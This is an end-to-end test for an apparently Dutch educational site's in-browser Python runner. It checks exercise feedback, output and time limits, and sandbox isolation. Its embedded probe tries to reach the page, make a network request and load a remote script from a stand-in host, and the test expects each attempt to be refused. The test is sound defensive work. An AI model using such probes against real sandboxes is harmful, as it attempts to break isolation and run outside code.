import { afterAll, beforeAll, expect, test } from 'vitest';
import { member, type Person } from './support/person.ts';
import { scene } from './support/scene.ts';
import { type Stage, startStage } from './support/stage.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await startStage('demo');
});
afterAll(() => stage?.stop());

/** What Python may want of the browser, and of what lies beyond it: each says what came of it. */
const curious = `
from pyodide.code import run_js
def tried(code):
    try:
        return run_js(code)
    except BaseException as error:
        return 'refused'
print('there is', tried("[typeof document, typeof parent, typeof open, typeof localStorage].join()"))
print('network', tried("(() => { const call = new XMLHttpRequest(); call.open('GET', 'http://127.0.0.1/api/general', false); call.send(); return 'reached'; })()"))
print('script', tried("(() => { importScripts('https://elders.example/x.js'); return 'reached'; })()"))
try:
    from pyodide.http import open_url
    print('url', open_url('/api/general').read()[:5])
except BaseException:
    print('url refused')
`;

/** Puts a program in place of what stands in the editor, and runs it. */
async function runProgram({ page, t, press }: Person, source: string): Promise<void> {
  await page.getByRole('textbox', { name: t('code:editor', { title: 'Beschrijvende statistiek' }) }).focus();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.insertText(source);
  await press(t('code:run'));
}

test('a program in Python runs, is stopped where it goes too far, and finds neither page nor network', async () => {
  const student = await member(stage, { screen: 'phone', language: 'nl' }, 'wout@zilverbrug.example');
  const { t, page } = student;
  const output = page.getByRole('region', { name: t('code:output') });
  const says = (text: string) => output.getByText(text, { exact: false }).waitFor();
  await scene('programs', student, async () => {
    await student.go('/study/courses');
    await student.follow('Gegevens en resultaten');
    await page.getByRole('link', { name: 'Beschrijvende statistiek' }).last().click();
    await page.getByRole('button', { name: t('code:run') }).click();
    await says('mediaan 7');
    await student.read(t('code:notAllTests'));
    await runProgram(
      student,
      `def gemiddelde(getallen):
    assert len(getallen) > 1
    return sum(getallen) / len(getallen)`,
    );
    await student.read(t('code:unmet', { line: 'assert len(getallen) > 1' }));
    await runProgram(student, 'def gemiddelde(getallen): return sum(getallen) / len(getallen)');
    await student.read(t('code:asExpected'));

    const pages = page.context().pages().length;
    await runProgram(student, curious);
    await says('url refused');
    const said = await output.textContent();
    expect(said).toContain('there is refused');
    expect(said).toContain('network refused');
    expect(said).toContain('script refused');
    expect(page.context().pages()).toHaveLength(pages);

    await runProgram(student, "while True: print('x' * 100_000)");
    await student.read(t('code:why.output'));
    expect((await output.textContent())?.length).toBeLessThan(200_000);
    await runProgram(student, 'while True: pass');
    await student.read(t('code:why.time'));
    expect(await student.visit.faults()).toEqual([]);
  });
});
